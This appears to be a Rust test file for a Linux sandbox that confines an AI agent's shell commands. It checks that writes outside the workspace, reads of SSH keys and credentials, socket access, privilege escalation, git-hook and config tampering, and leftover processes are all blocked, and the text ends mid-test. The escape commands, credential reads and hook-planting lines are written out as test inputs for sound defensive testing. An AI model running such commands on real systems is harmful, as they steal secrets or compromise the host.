//! The box against real commands that try to get out of it, on the kernel of this machine.
//!
//! Where the kernel cannot have level `full` these tests say so and pass; with `REASONIX_E2E=1` it is required.

#![cfg(target_os = "linux")]

use crate::place::{Place, full, python, uid};
use reasonix_exec::{BoxOptions, Command, Confinement, EndStatus, ExecError, Masked, Sandbox, SandboxLevel, run};
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;
use tokio_util::sync::CancellationToken;

#[tokio::test]
async fn ordinary_work_goes_on() {
    let place = Place::new();
    let sandbox = full_or_skip!(place.options());
    assert_eq!((sandbox.level(), sandbox.shortfall()), (SandboxLevel::Full, None));
    let work = place.work.path().canonicalize().unwrap();
    place.good(&sandbox, "pwd -P", work.to_str().unwrap()).await;
    place.good(&sandbox, "echo hi > a && mkdir -p b/c && mv a b/c/d && cat b/c/d", "hi").await;
    assert_eq!(fs::read_to_string(work.join("b/c/d")).unwrap(), "hi\n");
    place.good(&sandbox, "echo $((1+1)) >/dev/null; echo x | tee /dev/stderr >/dev/null", "x").await;
    place.good(&sandbox, "head -c 4 /dev/urandom | wc -c; cat <(echo sub) <<<here", "4\nsub").await;
    place
        .good(&sandbox, "ps -e --no-headers 2>/dev/null | wc -l | awk '{print ($1 < 8)}'; test -r /proc/self/maps", "1")
        .await;
    place.good(&sandbox, "kill -0 $$ && sleep 100 & kill $!; echo alive", "alive").await;
    place.good(&sandbox, "id -u", &uid()).await;
    // The temporary folder and the home are the session's own, and last from one command to the next.
    place.good(&sandbox, "echo one > /tmp/note; echo two > ~/note; echo three > /dev/shm/note", "").await;
    place.good(&sandbox, "cat $TMPDIR/note ~/note /dev/shm/note", "one\ntwo\nthree").await;
    assert!(!Path::new("/tmp/note").exists() && !place.home.path().join("note").exists());
    let (_, status) = place.says(&sandbox, "kill -9 $$").await;
    assert_eq!(status, EndStatus::Signalled(9));
}

/// C1: no way leads to a write outside.
#[tokio::test]
async fn c1_nothing_outside_is_written() {
    let place = Place::new();
    let outside = place.outside.path().canonicalize().unwrap();
    fs::write(outside.join("file"), "mine").unwrap();
    symlink(&outside, place.work.path().join("folder")).unwrap();
    symlink(outside.join("file"), place.work.path().join("link")).unwrap();
    symlink(outside.join("new"), place.work.path().join("dangling")).unwrap();
    let sandbox = full_or_skip!(place.options());
    let out = outside.display();
    // A checkout below /tmp or the home folder is not even visible in the box; elsewhere it can be read.
    if !outside.starts_with("/tmp") && !outside.starts_with("/home") && !outside.starts_with("/root") {
        place.good(&sandbox, &format!("cat {out}/file folder/file link"), "mineminemine").await;
    }
    let up = format!("{}{out}", "../".repeat(place.work.path().canonicalize().unwrap().components().count()));
    for line in [
        format!("echo x > {out}/file"),
        format!("echo x > {out}/new"),
        format!("rm {out}/file"),
        format!("mv {out}/file {out}/other"),
        format!("chmod 777 {out}/file"),
        format!("truncate -s 0 {out}/file"),
        format!("touch -d 2001-01-01 {out}/file"),
        format!("mkdir {out}/new"),
        format!("ln {out}/file hard && echo x > hard"),
        format!("echo x > {up}/new"),
        format!("echo x > /proc/self/root{out}/new"),
        format!("echo x > /proc/1/root{out}/new"),
        "echo x > folder/file".to_owned(),
        "echo x > folder/new".to_owned(),
        "echo x > link".to_owned(),
        "echo x > dangling".to_owned(),
        "cd -P folder && echo x > new".to_owned(),
        format!("ln -sfn {out} late && echo x > late/new"),
        "echo x > /etc/reasonix-test".to_owned(),
        "echo x > /usr/reasonix-test".to_owned(),
        "mkdir /reasonix-test".to_owned(),
        "echo x > /proc/sys/kernel/core_pattern".to_owned(),
        "echo x > /proc/sys/kernel/hostname".to_owned(),
        "echo 1 > /proc/sys/vm/drop_caches".to_owned(),
        "echo h > /proc/sysrq-trigger".to_owned(),
        "echo x > /sys/kernel/uevent_helper || echo x > /sys/power/state".to_owned(),
        "mknod disk b 254 0".to_owned(),
        "ls /dev/vda || ls /dev/sda || ls /dev/nvme0n1 || ls /dev/mem || ls /dev/kmsg || ls /dev/tty".to_owned(),
    ] {
        place.bad(&sandbox, &line).await;
    }
    assert_eq!(fs::read_to_string(outside.join("file")).unwrap(), "mine");
    assert_eq!(fs::read_dir(&outside).unwrap().count(), 1);
}

/// What is not the command's business cannot be read: the home, our own folder, what the settings forbid.
#[tokio::test]
async fn what_is_hidden_is_not_read() {
    let place = Place::new();
    let home = place.home.path();
    fs::create_dir_all(home.join(".ssh")).unwrap();
    fs::write(home.join(".ssh/id_ed25519"), "SECRET").unwrap();
    fs::write(home.join(".npmrc"), "SECRET").unwrap();
    // In no list of secrets: it is hidden because the home is.
    fs::write(home.join("diary.txt"), "SECRET").unwrap();
    fs::create_dir_all(home.join(".cargo/bin")).unwrap();
    fs::write(home.join(".cargo/credentials.toml"), "SECRET").unwrap();
    fs::write(home.join(".cargo/bin/tool"), "tool").unwrap();
    fs::write(home.join(".gitconfig"), "[user]\n\tname = N\n").unwrap();
    let outside = place.outside.path().canonicalize().unwrap();
    fs::create_dir(outside.join("ours")).unwrap();
    fs::write(outside.join("ours/key"), "SECRET").unwrap();
    fs::write(place.work.path().join("secret.txt"), "SECRET").unwrap();
    fs::create_dir(place.work.path().join("keys")).unwrap();
    fs::write(place.work.path().join("keys/key"), "SECRET").unwrap();
    let work = place.work.path().canonicalize().unwrap();
    let closed = vec![outside.join("ours"), work.join("secret.txt"), work.join("keys"), outside.join("not there")];
    let sandbox = full_or_skip!(BoxOptions { closed, ..place.options() });
    let paths = format!(
        "~/.ssh ~/.npmrc ~/diary.txt ~/.cargo {0}/ours secret.txt keys /proc/1/root{0}/ours",
        outside.display()
    );
    let (text, _) =
        place.says(&sandbox, &format!("grep -r SECRET {paths}; ls -A {paths}; cat /proc/1/environ /proc/1/mem")).await;
    assert!(!text.contains("SECRET\n") && !text.contains("id_ed25519") && !text.contains("credentials"), "{text}");
    place.bad(&sandbox, "echo x > secret.txt").await;
    place.bad(&sandbox, "echo x > keys/new").await;
    // Toolchains and the user's git settings are there, and cannot be changed.
    place.good(&sandbox, "cat ~/.cargo/bin/tool; git config user.name", "toolN").await;
    place.bad(&sandbox, "echo x > ~/.cargo/bin/tool").await;
    place.bad(&sandbox, "echo x > ~/.cargo/bin/other").await;
    assert_eq!(fs::read_to_string(work.join("secret.txt")).unwrap(), "SECRET");
}

/// What is shown of something closed is seen and stays as it is, whether the box hides the place itself or not; the rest of it
/// stays closed, to readers too.
#[tokio::test]
async fn what_is_shown_of_something_closed_is_seen_alone() {
    let place = Place::new();
    let homes = [place.home.path().canonicalize().unwrap(), place.outside.path().canonicalize().unwrap()];
    let ours: Vec<_> = homes.iter().map(|home| home.join("ours")).collect();
    for folder in &ours {
        fs::create_dir_all(folder.join("state/carried/one")).unwrap();
        fs::write(folder.join("state/carried/one/x.sh"), "echo carried\n").unwrap();
        fs::write(folder.join("state/key"), "SECRET").unwrap();
        fs::write(folder.join("key"), "SECRET").unwrap();
    }
    let shown = ours.iter().map(|folder| folder.join("state/carried")).collect();
    let sandbox = full_or_skip!(BoxOptions { closed: ours.clone(), shown, ..place.options() });
    for folder in &ours {
        let at = folder.display();
        place.good(&sandbox, &format!("sh {at}/state/carried/one/x.sh"), "carried").await;
        place.bad(&sandbox, &format!("echo x > {at}/state/carried/one/new")).await;
        place.bad(&sandbox, &format!("echo x > {at}/state/carried/one/x.sh")).await;
        place.bad(&sandbox, &format!("cat {at}/key")).await;
        place.bad(&sandbox, &format!("cat {at}/state/key")).await;
        let held = place.boxed(&sandbox, &format!("cat {at}/state/carried/one/x.sh; cat {at}/key {at}/state/key"));
        let held = held.with_confinement(Confinement::Held(sandbox.clone()));
        let text = run(&held, CancellationToken::new(), &|_| {}).await.unwrap().output.into_parts().0;
        let text = String::from_utf8_lossy(&text).into_owned();
        assert!(text.contains("echo carried") && !text.contains("SECRET"), "{text}");
    }
}

/// A root in a closed folder, such as a clone of ours, is open, and what is closed in it stays closed: to writers, to readers,
/// and to what is closed only while a command starts.
#[tokio::test]
async fn c3_what_is_closed_in_a_root_of_a_closed_folder_stays_closed() {
    let place = Place::new();
    let ours = place.home.path().canonicalize().unwrap().join("ours");
    let clone = ours.join("clones/one");
    fs::create_dir_all(clone.join("sec/deep")).unwrap();
    for file in ["key", "sec/deep/key", ".env", "open"] {
        fs::write(clone.join(file), format!("TEXT OF {file}")).unwrap();
    }
    let closed = vec![ours.clone(), clone.join("key"), clone.join("sec"), clone.join("sec/deep")];
    let late = clone.join(".env");
    let masked = Some(Masked(Arc::new(move || vec![late.clone()])));
    let options = BoxOptions { writable: vec![clone.clone()], closed, masked, ..place.options() };
    let sandbox = full_or_skip!(options);
    let line = "cat open; for file in key sec/deep/key .env; do x=$file; cat ./$x; done; true";
    for confinement in [Confinement::Boxed(sandbox.clone()), Confinement::Held(sandbox.clone())] {
        let command = Command::shell(Path::new("/bin/bash"), line, &clone)
            .with_environment(place.environment())
            .with_confinement(confinement);
        let finished = run(&command, CancellationToken::new(), &|_| {}).await.unwrap();
        let text = String::from_utf8_lossy(&finished.output.into_parts().0).into_owned();
        assert_eq!(text.matches("TEXT OF").count(), 1, "{text}");
        assert!(text.contains("TEXT OF open"), "{text}");
    }
}

/// What is opened of a home is seen and stays as it is; what is closed of it stays closed, and so does the rest.
#[tokio::test]
async fn what_is_opened_of_a_home_is_seen_and_not_changed() {
    let place = Place::new();
    let home = place.home.path().canonicalize().unwrap();
    for folder in ["data", "other", ".ssh"] {
        fs::create_dir(home.join(folder)).unwrap();
        fs::write(home.join(folder).join("file"), "CONTENT").unwrap();
    }
    let opened = vec![home.join("data"), home.join(".ssh"), home.join("not there"), home.clone()];
    let sandbox = full_or_skip!(BoxOptions { opened, ..place.options() });
    place.good(&sandbox, "cat ~/data/file", "CONTENT").await;
    place.bad(&sandbox, "echo x > ~/data/file").await;
    place.bad(&sandbox, "echo x > ~/data/new").await;
    let (text, _) = place.says(&sandbox, "cat ~/other/file ~/.ssh/file").await;
    assert!(!text.contains("CONTENT"), "{text}");
}

/// Also when the home itself is the workspace, keys are closed and what shells run at their start is not changed.
#[tokio::test]
async fn a_home_as_workspace_keeps_its_keys() {
    let place = Place::new();
    let home = place.home.path().canonicalize().unwrap();
    fs::create_dir(home.join(".ssh")).unwrap();
    fs::write(home.join(".ssh/id"), "SECRET").unwrap();
    fs::write(home.join(".netrc"), "SECRET").unwrap();
    fs::write(home.join(".bashrc"), "mine").unwrap();
    let sandbox = full_or_skip!(BoxOptions { writable: vec![home.clone()], ..place.options() });
    let (text, _) = place_line(&place, &sandbox, &home, "cat .ssh/id .netrc; ls .ssh; cat .bashrc; echo x > new").await;
    assert!(!text.contains("SECRET") && text.contains("mine") && home.join("new").exists(), "{text}");
    let (_, status) = place_line(&place, &sandbox, &home, "echo x >> .bashrc").await;
    assert_eq!(status, EndStatus::Exited(1));
}

/// What a line writes in another folder, and how it ends.
async fn place_line(place: &Place, sandbox: &Arc<Sandbox>, folder: &Path, line: &str) -> (String, EndStatus) {
    let command = Command { cwd: folder.to_owned(), ..place.boxed(sandbox, line) };
    let finished = run(&command, CancellationToken::new(), &|_| {}).await.unwrap();
    (String::from_utf8_lossy(&finished.output.into_parts().0).into_owned(), finished.status)
}

/// Caches can be read and written, and the user's own stay as they are.
#[tokio::test]
async fn caches_keep_their_changes_to_the_box() {
    let place = Place::new();
    let cache = place.home.path().join(".cargo/registry");
    fs::create_dir_all(cache.join("src")).unwrap();
    fs::write(cache.join("index"), "old").unwrap();
    let sandbox = full_or_skip!(place.options());
    place
        .good(
            &sandbox,
            "cd ~/.cargo/registry && cat index && echo new > index && echo x > src/file && rm -r src",
            "old",
        )
        .await;
    place.good(&sandbox, "cd ~/.cargo/registry && cat index && ls", "new\nindex").await;
    assert_eq!(fs::read_to_string(cache.join("index")).unwrap(), "old");
    assert!(cache.join("src").exists() && !cache.join("src/file").exists());
}

/// C2: what others execute or believe is not changed where it exists.
#[tokio::test]
async fn c2_protected_files_stay_as_they_are() {
    let place = Place::new();
    let work = place.work.path().canonicalize().unwrap();
    let sandbox = full_or_skip!(place.options());
    place
        .good(
            &sandbox,
            "git init -q . && git config user.email a@b && git config user.name A && ls .git/config",
            ".git/config",
        )
        .await;
    for name in ["reasonix.toml", ".mcp.json", ".envrc"] {
        fs::write(work.join(name), "mine").unwrap();
    }
    fs::create_dir(work.join(".vscode")).unwrap();
    fs::create_dir_all(work.join(".git/hooks")).unwrap();
    let config = fs::read(work.join(".git/config")).unwrap();
    for line in [
        "echo x > .git/hooks/pre-commit",
        "git config core.fsmonitor ./x",
        "echo x >> .git/config",
        "rm .git/config",
        "mv .git/config x",
        "mv .git old",
        "rm -rf .git/hooks",
        "mv .git/hooks x",
        "ln -sfn /tmp .git/hooks/x",
        "echo x > reasonix.toml",
        "mv reasonix.toml x",
        "rm .mcp.json",
        "ln -sf /etc/passwd .envrc",
        "echo x > .vscode/tasks.json",
        "mv .vscode x",
        "echo x > /proc/self/cwd/.mcp.json",
        "sed -i s/mine/x/ .envrc",
    ] {
        place.bad(&sandbox, line).await;
    }
    assert_eq!(fs::read(work.join(".git/config")).unwrap(), config);
    // And git works.
    let git = "echo hi > f && git add f && git commit -qm one && git switch -qc other && git branch --show-current \
               && git stash list && git mv f g && git commit -qm two && git log --oneline | wc -l && git gc -q";
    place.good(&sandbox, git, "other\n2").await;
}

/// C2: what is protected and absent is moved aside when a command makes it.
#[tokio::test]
async fn c2_protected_files_that_a_command_makes_are_moved_aside() {
    let place = Place::new();
    let work = place.work.path().canonicalize().unwrap();
    symlink("a", work.join(".vscode")).unwrap();
    let sandbox = full_or_skip!(place.options());
    let line = "git init -q . && echo '#!/bin/sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit; \
                git config core.fsmonitor ./x; echo '{}' > .mcp.json; mkdir .reasonix && echo x > .reasonix/config.toml; \
                ln -s /etc .envrc; ln -sfn b .vscode; echo fine > fine";
    let finished = place.finish(&sandbox, line).await;
    let mut moved: Vec<_> =
        finished.quarantined.iter().map(|file| file.path.strip_prefix(&work).unwrap().to_owned()).collect();
    moved.sort();
    assert_eq!(moved, [".envrc", ".git/config", ".git/hooks", ".mcp.json", ".reasonix", ".vscode"].map(PathBuf::from));
    for file in &finished.quarantined {
        assert!(file.path.symlink_metadata().is_err(), "{file:?}");
        assert!(file.kept.as_ref().unwrap().symlink_metadata().is_ok(), "{file:?}");
    }
    assert_eq!(fs::read_to_string(work.join("fine")).unwrap(), "fine\n");
    // A fresh repository is none of this.
    let place = Place::new();
    let sandbox = full(place.options()).unwrap();
    let finished = place.finish(&sandbox, "git init -q . && git config user.name x && echo hi > f && git add f").await;
    assert_eq!((finished.status, finished.quarantined), (EndStatus::Exited(0), vec![]));
}

/// C2: a link that stood at a protected place, and that no command changed, stays; so does what it leads to.
#[tokio::test]
async fn c2_links_that_were_there_stay() {
    let place = Place::new();
    let work = place.work.path().canonicalize().unwrap();
    let victim = place.outside.path().canonicalize().unwrap();
    symlink("a", work.join(".vscode")).unwrap();
    symlink(&victim, work.join(".git")).unwrap();
    let sandbox = full_or_skip!(place.options());
    // What appears behind the link meanwhile is not this workspace's to move.
    let appear = |_: &[u8]| fs::write(victim.join("config"), "[core]\n\tfsmonitor = x\n").unwrap();
    let command = place.boxed(&sandbox, "echo x; cat");
    let finished = run(&command, CancellationToken::new(), &appear).await.unwrap();
    assert_eq!((finished.status, finished.quarantined), (EndStatus::Exited(0), vec![]));
    assert!(work.join(".vscode").is_symlink() && work.join(".git").is_symlink() && victim.join("config").exists());
}

/// C2: neither a link nor a file in place of the repository leads us to touch what lies elsewhere.
#[tokio::test]
async fn c2_a_false_repository_is_moved_aside_and_nothing_else() {
    let victim = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    fs::create_dir(victim.path().join("hooks")).unwrap();
    fs::write(victim.path().join("config"), "[core]\n\tfsmonitor = x\n").unwrap();
    for (made, line) in [
        (".git", format!("ln -s {} .git && ls .git/config", victim.path().canonicalize().unwrap().display())),
        (".git", "mkdir x && echo 'gitdir: x' > .git".to_owned()),
        (".git/commondir", "git init -q . && echo ../x > .git/commondir".to_owned()),
    ] {
        let place = Place::new();
        let sandbox = full_or_skip!(place.options());
        let finished = place.finish(&sandbox, &line).await;
        let made = place.work.path().canonicalize().unwrap().join(made);
        assert_eq!(finished.quarantined.iter().map(|file| &file.path).collect::<Vec<_>>(), [&made], "{line}");
        assert!(made.symlink_metadata().is_err());
    }
    assert_eq!(fs::read_dir(victim.path()).unwrap().count(), 2);
}

/// C2: an earlier command that rearranges the session's own home leads no mount astray.
#[tokio::test]
async fn c2_the_way_to_a_root_cannot_be_bent() {
    let place = Place::new();
    let work = place.home.path().canonicalize().unwrap().join("a/work");
    fs::create_dir_all(&work).unwrap();
    fs::write(work.join(".envrc"), "mine").unwrap();
    let sandbox = full_or_skip!(BoxOptions { writable: vec![work.clone()], ..place.options() });
    let line = |text: &str| Command { cwd: work.clone(), ..place.boxed(&sandbox, text) };
    // In one go: whoever moves what is fixed for them is ended for it.
    let bend = python(
        "import os; h = os.path.expanduser('~'); os.makedirs('/tmp/x/work'); open('/tmp/x/work/.envrc', 'w').write('fake'); \
         os.rename(h + '/a', h + '/b'); os.symlink('/tmp/x', h + '/a')",
    );
    run(&line(&bend), CancellationToken::new(), &|_| {}).await.unwrap();
    let error = run(&line("touch ran"), CancellationToken::new(), &|_| {}).await.unwrap_err();
    assert!(matches!(error, ExecError::NoSandbox { .. }), "{error}");
    assert_eq!(fs::read_dir(&work).unwrap().count(), 1);
}

/// C4: no network, no socket of the machine.
#[tokio::test]
async fn c4_nothing_is_reached_through_sockets() {
    let place = Place::new();
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let abstract_name = format!("reasonix-test-{}", std::process::id());
    use std::os::linux::net::SocketAddrExt;
    let address = std::os::unix::net::SocketAddr::from_abstract_name(&abstract_name).unwrap();
    let _hidden = std::os::unix::net::UnixListener::bind_addr(&address).unwrap();
    let sandbox = full_or_skip!(place.options());
    place.bad(&sandbox, &format!("exec 3<>/dev/tcp/127.0.0.1/{port}")).await;
    place.bad(&sandbox, "exec 3<>/dev/udp/192.0.2.1/53 && echo x >&3").await;
    for code in [
        format!("import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{abstract_name}')"),
        "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)".to_owned(),
        "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)".to_owned(),
        "import socket; socket.socket(socket.AF_VSOCK)".to_owned(),
        "import socket; socket.socket(38, socket.SOCK_SEQPACKET)".to_owned(),
        "import socket; socket.getaddrinfo('example.com', 80)".to_owned(),
        // io_uring_setup
        "import ctypes,sys; sys.exit(1 if ctypes.CDLL(None).syscall(425, 1, 0) < 0 else 0)".to_owned(),
    ] {
        place.bad(&sandbox, &python(&code)).await;
    }
    place
        .good(
            &sandbox,
            "ls -A /run /var/run/ | sort -u | grep -v : ; ls /proc/self/fd | sort -n | tr '\\n' ' '",
            "0 1 2 3",
        )
        .await;
    // Inside one command a server and its client talk.
    let talk = "import socket,threading\ns=socket.create_server(('127.0.0.1',0))\n\
                t=threading.Thread(target=lambda: s.accept()[0].sendall(b'hi'))\nt.start()\n\
                print(socket.create_connection(s.getsockname()).recv(2).decode())";
    place.good(&sandbox, &python(talk), "hi").await;
}

#[tokio::test]
async fn the_network_is_there_when_the_user_says_so() {
    let place = Place::new();
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let name = format!("reasonix-open-{}", std::process::id());
    use std::os::linux::net::SocketAddrExt;
    let address = std::os::unix::net::SocketAddr::from_abstract_name(&name).unwrap();
    let _hidden = std::os::unix::net::UnixListener::bind_addr(&address).unwrap();
    let sandbox = full_or_skip!(BoxOptions { network: true, ..place.options() });
    place.good(&sandbox, &format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo in"), "in").await;
    // The network is open, other programs' local sockets are not.
    let code = format!("import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{name}')");
    place.bad(&sandbox, &python(&code)).await;
}

/// Shared memory of other programs is not seen.
#[tokio::test]
async fn c4_other_programs_memory_is_not_shared() {
    let place = Place::new();
    let sandbox = full_or_skip!(place.options());
    let made = std::process::Command::new("ipcmk").args(["-M", "4096"]).output().unwrap();
    let id = String::from_utf8(made.stdout).unwrap().trim().rsplit(' ').next().unwrap().to_owned();
    let (text, status) = place.says(&sandbox, "ipcs -m | grep -c 0x; ls -A /dev/shm").await;
    assert!(std::process::Command::new("ipcrm").args(["-m", &id]).status().unwrap().success());
    assert_eq!((text.trim(), status), ("0", EndStatus::Exited(0)));
}

/// C5: there are no privileges, and no way to any.
#[tokio::test]
async fn c5_there_are_no_privileges_in_the_box() {
    let place = Place::new();
    let sandbox = full_or_skip!(place.options());
    let status = "grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status | awk '{print $2}' | sort -u | tr '\\n' ' '";
    place.good(&sandbox, status, "0000000000000000 1 2").await;
    for line in [
        "unshare -U true",
        "unshare -m true",
        "mount -t tmpfs none /tmp",
        "umount /tmp",
        "umount -l ~",
        "chroot / true",
        "nsenter -t 1 -m true",
        "hostname x",
        "chown 12345 . ",
        "cat /proc/1/mem",
        "ls -l /proc/1/root",
        "cat /proc/1/environ",
        "cat /proc/1/maps",
        "ls -l /proc/1/fd/0",
        "kill -9 1; kill -0 1 && exit 1",
    ] {
        place.bad(&sandbox, line).await;
    }
    // clone(CLONE_NEWUSER), ptrace(ATTACH, 1), process_vm_readv, bpf, perf_event_open, keyctl, userfaultfd,
    // open_by_handle_at, kexec_load, mount, setns, and ioctl(TIOCSTI), each by its number.
    let numbers = if cfg!(target_arch = "x86_64") {
        "(56,0x10000011),(101,16,1),(101,0),(310,1),(321,0),(298,0),(250,0),(323,0),(304,0),(246,0),(165,0),(308,0),(16,0,0x5412)"
    } else {
        "(220,0x10000011),(117,16,1),(117,0),(270,1),(280,0),(241,0),(219,0),(282,0),(265,0),(104,0),(40,0),(268,0),(29,0,0x5412)"
    };
    let code = format!(
        "import ctypes\nl=ctypes.CDLL(None,use_errno=True)\nfor call in [{numbers}]:\n \
         r=l.syscall(*call,0,0,0)\n assert r==-1 and ctypes.get_errno()==1,(call,r,ctypes.get_errno())\nprint('refused')"
    );
    place.good(&sandbox, &python(&code), "refused").await;
    // Nobody outside is seen, let alone signalled.
    let me = std::process::id();
    place.bad(&sandbox, &format!("test -e /proc/{me} && grep -q sandbox /proc/{me}/comm || kill -0 {me}")).await;
}

/// C5: programs that carry privileges carry none here.
#[tokio::test]
async fn c5_a_setuid_program_gains_nothing() {
    let place = Place::new();
    let sandbox = full_or_skip!(place.options());
    let line = "for f in /usr/bin/su /bin/su /usr/bin/passwd; do test -u $f && echo found; done | head -1; \
                cp /usr/bin/id ./id; chmod u+s,g+s ./id; ./id -u; ./id -ru";
    let (text, _) = place.says(&sandbox, line).await;
    let uid = uid();
    assert!(text.trim().ends_with(&format!("{uid}\n{uid}")), "{text}");
}

/// When it ends, everything ends, whatever session it went to.
#[tokio::test]
async fn c6_nothing_stays_behind() {
    let place = Place::new();
    let sandbox = full_or_skip!(place.options());
    let mark = format!("300.{}", std::process::id());
    let line = format!(
        "(setsid setsid sleep {mark} >/dev/null 2>&1 &) ; (trap '' TERM; setsid sleep {mark} & disown) ; echo x"
    );
    let finished = place.finish(&sandbox, &line).await;
    assert!(finished.leftovers_killed);
    assert_eq!(marked(&mark), 0);
    let mut slow = place.boxed(&sandbox, "trap '' TERM; echo x; while :; do sleep 1000; done");
    slow.timeout = Some(Duration::from_millis(200));
    let finished = run(&slow, CancellationToken::new(), &|_| {}).await.unwrap();
    assert_eq!(finished.status, EndStatus::TimedOut);
}

/// How many processes of this machine have the mark among their words.
fn marked(mark: &str) -> usize {
    let lines = fs::read_dir("/proc").unwrap().flatten().map(|entry| entry.path().join("cmdline"));
    lines.filter(|file| fs::read_to_string(file).is_ok_and(|line| line.contains(mark))).count()
}

/// Waits until something is true; the bound is only there so that a broken test ends.
fn until(what: &str, is_true: impl Fn() -> bool) {
    let started = std::time::Instant::now();
    while !is_true() {
        assert!(started.elapsed() < Duration::from_secs(60), "never happened: {what}");
        std::thread::sleep(Duration::from_millis(5));
    }
}

/// The kernel ends the box when its agent is killed, daemons in sessions of their own included.
#[test]
fn c6_a_killed_agent_leaves_no_box() {
    let place = Place::new();
    drop(full_or_skip!(place.options()));
    let mark = format!("301.{}", std::process::id());
    let mut agent = std::process::Command::new(std::env::current_exe().unwrap())
        .args(["--ignored", "--exact", "sandbox::inside_an_agent_that_is_killed"])
        .env("REASONIX_TEST_MARK", &mark)
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    until("the command and its daemon run", || marked(&mark) >= 3);
    agent.kill().unwrap();
    agent.wait().unwrap();
    until("all of it is gone", || marked(&mark) == 0);
}

#[tokio::test]
#[ignore = "run by the test above, to be killed"]
async fn inside_an_agent_that_is_killed() {
    let Ok(mark) = std::env::var("REASONIX_TEST_MARK") else { return };
    let place = Place::new();
    let sandbox = full(place.options()).unwrap();
    place.finish(&sandbox, &format!("(setsid sleep {mark} &); sleep {mark} & sleep {mark}")).await;
}

/// C7: what cannot be had is refused with a reason, never silently left out.
#[tokio::test]
async fn c7_without_the_box_nothing_runs() {
    let place = Place::new();
    let refused = Confinement::Refused { wanted: SandboxLevel::Full, reason: "no namespaces".into() };
    let command = Command::shell(Path::new("/bin/bash"), "touch ran", place.work.path()).with_confinement(refused);
    let error = run(&command, CancellationToken::new(), &|_| {}).await.unwrap_err();
    assert!(matches!(&error, ExecError::NoSandbox { wanted: SandboxLevel::Full, reason } if reason == "no namespaces"));
    assert_eq!(error.phrase().code, "exec.no_sandbox");
    assert!(!place.work.path().join("ran").exists());
    let everything = BoxOptions { writable: vec!["/".into()], ..place.options() };
    assert!(matches!(Sandbox::prepare(everything, SandboxLevel::Partial), Err(ExecError::NoSandbox { .. })));
}

/// A folder that vanishes under the box is an error of that command, not a command outside it.
#[tokio::test]
async fn c7_a_box_that_can_no_longer_be_built_refuses() {
    let place = Place::new();
    let more = tempfile::tempdir().unwrap();
    let mut options = place.options();
    options.writable.push(more.path().to_owned());
    let sandbox = full_or_skip!(options);
    place.good(&sandbox, &format!("echo x > {}/f; echo ran", more.path().display()), "ran").await;
    drop(more);
    let error = run(&place.boxed(&sandbox, "touch ran"), CancellationToken::new(), &|_| {}).await.unwrap_err();
    assert!(matches!(error, ExecError::NoSandbox { .. }), "{error}");
    assert!(!place.work.path().join("ran").exists());
}

#[tokio::test]
async fn many_boxes_at_once() {
    let place = Place::new();
    let sandbox = full_or_skip!(place.options());
    let lines: Vec<_> = (0..24).map(|n| format!("echo {n} > f{n}; cat f{n}")).collect();
    let all = lines.iter().map(|line| place.says(&sandbox, line));
    for (n, (text, status)) in join_all(all).await.into_iter().enumerate() {
        assert_eq!((text, status), (format!("{n}\n"), EndStatus::Exited(0)));
    }
}

/// Runs all of them side by side.
async fn join_all<T>(futures: impl Iterator<Item = impl Future<Output = T>>) -> Vec<T> {
    let mut waiting: Vec<_> = futures.map(|future| (Box::pin(future), None)).collect();
    std::future::poll_fn(|context| {
        for (future, done) in waiting.iter_mut().filter(|(_, done)| done.is_none()) {
            if let std::task::Poll::Ready(value) = future.as_mut().poll(context) {
                *done = Some(value);
            }
        }
        if waiting.iter().all(|(_, done)| done.is_some()) {
            std::task::Poll::Ready(())
        } else {
            std::task::Poll::Pending
        }
    })
    .await;
    waiting.into_iter().filter_map(|(_, done)| done).collect()
}

/// Where namespaces were taken away: `full` is refused with the reason, `partial` says what it lacks and holds the rest.
#[test]
fn c7_without_namespaces_there_is_less_and_it_is_said() {
    crate::place::inside("-Ur", "echo 0 > /proc/sys/user/max_user_namespaces", "sandbox::inside_without_namespaces");
}

#[tokio::test]
#[ignore = "run by the test above, in a user namespace that cannot have another"]
async fn inside_without_namespaces() {
    let place = Place::new();
    match Sandbox::prepare(place.options(), SandboxLevel::Full) {
        Err(ExecError::NoSandbox { wanted: SandboxLevel::Full, reason }) => {
            assert!(reason.starts_with("making namespaces: "), "{reason}");
        }
        other => panic!("{other:?}"),
    }
    let sandbox = Sandbox::prepare(place.options(), SandboxLevel::Partial).unwrap();
    assert_eq!(sandbox.level(), SandboxLevel::Partial);
    assert!(sandbox.shortfall().unwrap().starts_with("making namespaces: "));
    let out = place.outside.path().canonicalize().unwrap();
    place
        .good(
            &sandbox,
            "echo hi > a && mkdir b && mv a b/a && cat b/a >/dev/null; echo x > $TMPDIR/t; cat $TMPDIR/t",
            "x",
        )
        .await;
    place
        .good(&sandbox, "grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status | awk '{print $2}' | tr '\\n' ' '", "1 2")
        .await;
    for line in [
        format!("echo x > {}/new", out.display()),
        format!("ln -s {} l; echo x > l/new", out.display()),
        "echo x > ~/new".to_owned(),
        "echo x > /tmp/reasonix-partial".to_owned(),
        "exec 3<>/dev/tcp/127.0.0.1/1".to_owned(),
        python("import socket; socket.socket(socket.AF_INET)"),
        python("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
        "unshare -U true".to_owned(),
        "unshare -m true".to_owned(),
        "mount -t tmpfs none b".to_owned(),
        format!("kill -0 {}", std::process::id()),
        format!("cat /proc/{}/mem", std::process::id()),
        format!("cat /proc/{}/environ", std::process::id()),
    ] {
        place.bad(&sandbox, &line).await;
    }
    assert_eq!(fs::read_dir(&out).unwrap().count(), 0);
    let finished = place.finish(&sandbox, "echo x > .envrc").await;
    assert_eq!(finished.quarantined.len(), 1);
    // What is opened of a home is so without what would be hidden in it.
